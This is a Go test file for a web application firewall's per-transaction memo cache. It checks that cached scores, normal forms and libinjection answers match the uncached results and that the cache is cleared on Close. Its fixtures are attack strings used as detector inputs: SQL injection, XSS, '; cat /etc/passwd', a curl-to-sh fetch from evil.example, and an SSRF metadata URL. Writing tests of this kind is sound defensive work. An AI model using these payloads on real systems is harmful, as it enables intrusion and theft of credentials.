package waf

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"testing"

	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/corazawaf/libinjection-go"
)

// memoValues are values each family scores differently, values that
// normalize and values that do not.
var memoValues = []string{
	"",
	"Ana Maria",
	"1' UNION SELECT password FROM users--",
	"1'/**/UNION/**/SELECT/**/1--",
	"<script>alert(1)</script>",
	"%3Cscript%3Ealert(1)%3C%2Fscript%3E",
	"&lt;img src=x onerror=alert(1)&gt;",
	"; cat /etc/passwd",
	"$(curl%20http://evil.example/x|sh)",
	"He said 'and' -- twice",
	"It's a great product, thanks!",
	"eval(atob('YWxlcnQoMSk='))",
	"{{7*7}}",
	"O:8:\"stdClass\":0:{}",
	"http://169.254.169.254/latest/meta-data/",
}

// TestTxMemoAnswers: a memo answers as the functions it remembers, a
// scorer and normalize each run once per value, and the memo keeps no
// more than maxMemo answers of a kind.
func TestTxMemoAnswers(t *testing.T) {
	families := []*family{&familySQL, &familyXSS, &familyShell, &familyPHP, &familyNode, &familyMongo, &familySSRF, &familyHeader, &familyJava, &familyDataURI}
	m := newTxMemo()
	for _, v := range memoValues {
		for _, f := range families {
			for range 2 {
				if got, want := m.score(f, v), f.score(v); got != want {
					t.Errorf("%s score of %q: memo %d, scorer %d", f.name, v, got, want)
				}
				if got, want := m.benign(f, v), f.benign(v); got != want {
					t.Errorf("%s benign(%q): memo %v, family %v", f.name, v, got, want)
				}
			}
		}
		n, ok := normalize(v)
		for range 2 {
			if gn, gok := m.normalize(v); gn != n || gok != ok {
				t.Errorf("normalize(%q): memo %q %v, want %q %v", v, gn, gok, n, ok)
			}
		}
		wres, wfp := libinjection.IsSQLi(v)
		for range 2 {
			if res, fp := m.isSQLi(v); res != wres || fp != wfp {
				t.Errorf("isSQLi(%q): memo %v %q, libinjection %v %q", v, res, fp, wres, wfp)
			}
		}
		wn, wok, wl := normalForms(v)
		if gn, gok, gl := m.normalForms(v); gn != wn || gok != wok || !slices.Equal(gl, wl) {
			t.Errorf("normalForms(%q): memo %q %v %q, want %q %v %q", v, gn, gok, gl, wn, wok, wl)
		}
	}
	var nilMemo *txMemo
	for _, v := range memoValues {
		if got, want := nilMemo.score(&familyShell, v), shellScore(v); got != want {
			t.Errorf("no memo: shell score of %q %d, want %d", v, got, want)
		}
	}

	runs := map[string]int{}
	counted := scorerOnly("counted", func(v string) int { runs[v]++; return len(v) })
	c := newTxMemo()
	for range 3 {
		for _, v := range memoValues {
			if got := c.score(counted, v); got != len(v) {
				t.Fatalf("counted score of %q = %d, want %d", v, got, len(v))
			}
		}
	}
	for _, v := range memoValues {
		if runs[v] != 1 {
			t.Errorf("scorer ran %d times on %q, want once", runs[v], v)
		}
	}

	b := newTxMemo()
	for i := range maxMemo + 100 {
		v := fmt.Sprintf("%d%%3Cx%%3E", i)
		if got := b.score(counted, v); got != len(v) {
			t.Fatalf("past the bound: score of %q = %d", v, got)
		}
		if n, ok := b.normalize(v); !ok || n != fmt.Sprintf("%d<x>", i) {
			t.Fatalf("past the bound: normalize(%q) = %q %v", v, n, ok)
		}
	}
	for i := range maxMemo + 100 {
		b.isSQLi(fmt.Sprintf("%d' or 1=1--", i))
	}
	if len(b.scores) > maxMemo || len(b.norms) > maxMemo || len(b.sqli) > maxMemo {
		t.Errorf("memo holds %d scores, %d normal forms and %d libinjection answers, bound %d", len(b.scores), len(b.norms), len(b.sqli), maxMemo)
	}
}

// TestTxMemoRequest: a transaction Begin starts has a memo that the
// request's scorers and normal forms fill; Close empties it and takes it
// from the transaction.
func TestTxMemoRequest(t *testing.T) {
	wafs, err := cacheWAFs()
	if err != nil {
		t.Fatal(err)
	}
	const q = "1' UNION SELECT password FROM users--"
	tx := wafs[0].Begin(nil)
	state := tx.tx.(plugintypes.TransactionState)
	m := memoOf(state)
	if m == nil {
		t.Fatal("Begin gave the transaction no memo")
	}
	v, err := tx.Request(httptest.NewRequest("GET", "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", http.NoBody), "127.0.0.1:4000")
	if err != nil || !v.Block {
		t.Fatalf("attack: %+v, %v", v, err)
	}
	if sc, ok := m.scores[memoKey{&familySQL, q}]; !ok || sc != scoreAttack {
		t.Errorf("SQL score of the attack value: %d, kept %v", sc, ok)
	}
	if n, _ := normalize(q); m.norms[q] != (normalForm{n, true}) {
		t.Errorf("normal form of the attack value: kept %+v, want %q", m.norms[q], n)
	}
	if res, fp := libinjection.IsSQLi(q); m.sqli[q] != (sqliAnswer{res, fp}) {
		t.Errorf("libinjection's answer on the attack value: kept %+v, want %v %q", m.sqli[q], res, fp)
	}
	tx.Close()
	if memoOf(state) != nil {
		t.Error("the memo outlives Close")
	}
	if len(m.scores) != 0 || len(m.norms) != 0 || len(m.sqli) != 0 {
		t.Errorf("Close left %d scores, %d normal forms and %d libinjection answers in the memo", len(m.scores), len(m.norms), len(m.sqli))
	}
}

// TestTxMemoDetection: the request corpora give the same verdicts,
// matched rules and matched values with the transaction's memo as
// without it.
func TestTxMemoDetection(t *testing.T) {
	wafs, err := cacheWAFs()
	if err != nil {
		t.Fatal(err)
	}
	w := wafs[1] // no header cache: every value reaches the scorers
	inputs := corpusInputs(t, true)
	diffs := make([]string, len(inputs))
	inParallel(len(inputs), func(i int) {
		ra, rb := rawRequest(t, inputs[i]), rawRequest(t, inputs[i])
		if ra == nil {
			return
		}
		va, ma, ea := outcomeOf(w, ra)
		vb, mb, eb := outcomeWithout(w, rb)
		if !reflect.DeepEqual(va, vb) || !slices.Equal(ma, mb) || fmt.Sprint(ea) != fmt.Sprint(eb) {
			diffs[i] = fmt.Sprintf("memo %+v %q (%v), none %+v %q (%v)", va, ma, ea, vb, mb, eb)
		}
	})
	n := 0
	for i, d := range diffs {
		if d != "" {
			if n++; n <= 20 {
				t.Errorf("request %d: %s\n%q", i, d, trimInput(inputs[i]))
			}
		}
	}
	t.Logf("%d requests, %d differ", len(inputs), n)
}

// outcomeWithout is outcomeOf with the transaction's memo taken away
// before the request: every question is computed.
func outcomeWithout(w *WAF, r *http.Request) (Verdict, []string, error) {
	tx := w.Begin(nil)
	defer tx.Close()
	endMemo(tx.tx)
	return outcomeIn(tx, r)
}
